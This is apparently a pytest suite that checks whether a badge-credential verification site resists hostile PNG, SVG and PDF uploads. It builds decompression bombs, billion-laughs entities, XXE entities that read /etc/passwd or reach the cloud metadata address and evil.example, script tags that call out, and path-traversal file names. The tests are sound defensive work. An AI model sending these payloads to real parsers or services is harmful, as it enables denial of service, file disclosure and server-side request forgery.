"""Pictures and PDFs that harm their reader or can be read in two ways, as files and by address (U1 to U4)."""

import zlib
from pathlib import Path

import pikepdf
import pytest
from foreign_badge import as_bytes
from pdf_files import deep_names, embed, looping_names, looping_pages, pdf, raw_stream, wide_names, xref_bomb
from pikepdf import Array, Name

MAGIC = b"\x89PNG\r\n\x1a\n"
KEYWORD = b"openbadgecredential"
AS_IT_IS = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def chunk(kind, data=b"", *, length=None, crc=None):
    stated = len(data) if length is None else length
    checked = zlib.crc32(kind + data) if crc is None else crc
    return stated.to_bytes(4, "big") + kind + data + checked.to_bytes(4, "big")


HEAD = chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0]))
IMAGE = chunk(b"IDAT", zlib.compress(b"\0\0"))
END = chunk(b"IEND")


def itxt(text, *, flag=b"\0\0"):
    return chunk(b"iTXt", KEYWORD + b"\0" + flag + b"\0\0" + text)


def png(*chunks):
    return MAGIC + HEAD + b"".join(chunks) + IMAGE + END


def bomb(good):
    return zlib.compress(good[:-1] + b" " * 200_000_000 + b"}", 9)


PNG = {
    "two credentials": lambda good: png(itxt(good), itxt(good)),
    "a second one after the picture": lambda good: MAGIC + HEAD + itxt(good) + IMAGE + itxt(b"{}") + END,
    "a second one after the end": lambda good: png(itxt(good)) + itxt(b"{}"),
    "a compressed one": lambda good: png(itxt(zlib.compress(good), flag=b"\1\0")),
    "a compressed one of 200 MB": lambda good: png(itxt(bomb(good), flag=b"\1\0")),
    "in tEXt": lambda good: png(chunk(b"tEXt", KEYWORD + b"\0" + good)),
    "in zTXt, 200 MB": lambda good: png(chunk(b"zTXt", KEYWORD + b"\0\0" + bomb(good))),
    "a length of 2 GB": lambda good: MAGIC + HEAD + chunk(b"iTXt", KEYWORD, length=2**31 - 1),
    "a length of 4 GB": lambda good: MAGIC + HEAD + chunk(b"iTXt", KEYWORD, length=2**32 - 1) + itxt(good),
    "a wrong sum": lambda good: png(chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + good, crc=1)),
    "a flood of chunks": lambda good: png(*[chunk(b"tEXt", b"a\0b")] * 200_000, itxt(good)),
    "cut short": lambda good: png(itxt(good))[:-30],
    "no header": lambda good: MAGIC + itxt(good) + END,
    "only the magic": lambda good: MAGIC,
    "two headers": lambda good: png(HEAD, itxt(good)),
    "a PDF behind it": lambda good: png() + pdf(("credential.json", good)),
}


def svg(inside, *, before=b"", attributes=b""):
    return (
        before
        + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" '
        + attributes
        + b">"
        + inside
        + b"</svg>"
    )


def element(text, *, attribute=b""):
    return b"<openbadges:credential" + attribute + b"><![CDATA[" + text + b"]]></openbadges:credential>"


LAUGHS = (
    b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + b"".join(b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (98 + n) * 10) for n in range(9))
    + b"]>"
)
SVG = {
    "two credentials": lambda good: svg(element(good) + element(good)),
    "body and attribute": lambda good: svg(element(good, attribute=b' verify="eyJhbGciOiJFZERTQSJ9.e30.eA"')),
    "a billion laughs": lambda good: svg(element(good) + b"<text>&k;</text>", before=LAUGHS),
    "laughs in an attribute": lambda good: svg(element(good), before=LAUGHS, attributes=b'id="&k;"'),
    "an entity from a file": lambda good: svg(
        b"<openbadges:credential>&x;</openbadges:credential>",
        before=b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "an entity from the network": lambda good: svg(
        b"<openbadges:credential>&x;</openbadges:credential>",
        before=b'<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]>',
    ),
    "a parameter entity": lambda good: svg(
        element(good), before=b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>'
    ),
    "50,000 levels": lambda good: svg(b"<g>" * 50_000 + element(good) + b"</g>" * 50_000),
    "cut short": lambda good: svg(element(good))[:-10],
    "UTF-16": lambda good: svg(element(good)).decode().encode("utf-16"),
    "another root": lambda good: svg(element(good)).replace(b"<svg", b"<x").replace(b"</svg", b"</x"),
}
SCRIPT = b"<script>fetch('//evil.example')</script><image href='https://evil.example/x.png'/>"


def deflate_bomb(document):
    packed = zlib.compress(b'{"a":"' + b" " * 300_000_000, 9)
    embed(document, raw_stream(document, packed, Name.FlateDecode))


def stacked(good):
    def build(document):
        twice = zlib.compress(zlib.compress(good))
        embed(document, raw_stream(document, twice, Array([Name.FlateDecode, Name.FlateDecode])))

    return build


PDF = {
    "two different credentials": lambda good: pdf(
        ("a.json", good), ("b.json", good.replace(b"spring", b"autumn"))
    ),
    "a deflate bomb": lambda good: pdf(build=deflate_bomb, **AS_IT_IS),
    "stacked filters": lambda good: pdf(build=stacked(good), **AS_IT_IS),
    "a bomb in the cross-reference table": lambda good: xref_bomb(600),
    "names that go round": lambda good: pdf(build=looping_names),
    "pages that go round": lambda good: pdf(build=looping_pages),
    "names 200 levels deep": lambda good: pdf(build=deep_names(200, good)),
    "a billion names": lambda good: pdf(build=wide_names),
    "100 attachments": lambda good: pdf(*((f"{n}.json", b"{}") for n in range(100))),
    "a password": lambda good: pdf(
        ("credential.json", good), encryption=pikepdf.Encryption(owner="o", user="u")
    ),
    "only the head": lambda good: b"%PDF-1.7\n",
    "not a PDF": lambda good: b"%PDF-1.7\n" + bytes(range(256)) * 1000,
}


@pytest.mark.parametrize("kind", ["png", "svg", "pdf"])
def test_the_issued_files_are_good(site, demo, kind):
    for state, word in (("issued", "Good"), ("revoked", "Revoked")):
        content = Path(demo.credentials(state)[0][kind]).read_bytes()
        for answer in (site.upload(content, name=f"x.{kind}"), site.open_address(content)):
            assert answer.word == word


def test_the_plain_twins_are_good(site, good):
    assert site.upload(png(itxt(good))).word == "Good"
    assert site.upload(svg(element(good))).word == "Good"
    assert site.upload(pdf(("credential.json", good))).word == "Good"


@pytest.mark.parametrize("name", PNG)
def test_a_harmful_png_is_never_good(site, good, name):
    _never_good(site, PNG[name](good))


@pytest.mark.parametrize("name", SVG)
def test_a_harmful_svg_is_never_good(site, good, name):
    site.outside.asked.clear()
    _never_good(site, SVG[name](good))
    assert [each for each in site.outside.asked if "evil" in each or "169.254" in each] == []


@pytest.mark.parametrize("name", PDF)
def test_a_harmful_pdf_is_never_good(site, good, name):
    _never_good(site, PDF[name](good))


def test_what_else_stands_in_a_drawing_is_never_sent_back(site, good):
    answer = site.upload(svg(SCRIPT + element(good)))
    assert answer.word == "Good"
    assert "evil.example" not in answer.text
    assert "<script" not in answer.text


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff\xe0 picture",
        b"GIF89a",
        b"RIFF....WEBP",
        b"PK\x03\x04 archive",
        b"\x1f\x8b\x08 packed",
        b"<!doctype html><script>alert(1)</script>",
        b"MZ program",
        b"\x7fELF",
        b"https://a.example/badge",
        b"#!/bin/sh\nid",
    ],
)
def test_another_kind_of_file_is_explained(site, content):
    answer = site.upload(content)
    assert answer.word == "Not valid"
    assert "kind: no_credential" in answer.codes
    assert "<script>alert" not in answer.text


def test_one_file_in_another_guise_is_judged_by_its_content(site, good):
    for name in ("badge.png", "badge.pdf", "../../etc/passwd", "a" * 5_000, "\u202egnp.exe", "<b>x</b>.json"):
        answer = site.upload(good, name=name)
        assert answer.word == "Good"
        assert "<b>x</b>" not in answer.text


def test_hostile_files_at_once_are_answered(site, good, stranger):
    files = [PNG["a flood of chunks"](good), SVG["a billion laughs"](good), PDF["a deflate bomb"](good)]
    files += [as_bytes({}), b"", good]
    answer = site.upload(*files)
    assert answer.status == 200
    assert "Results of 6 files" in answer.text
    assert answer.text.count("is-good") >= 1


def _never_good(site, content):
    answers = [site.upload(content)]
    if len(content) < 500_000:
        answers.append(site.open_address(content))
    for answer in answers:
        assert answer.status == 200
        assert answer.word in ("Not valid", "Refused")
        assert "signature: signature_fits" not in answer.codes
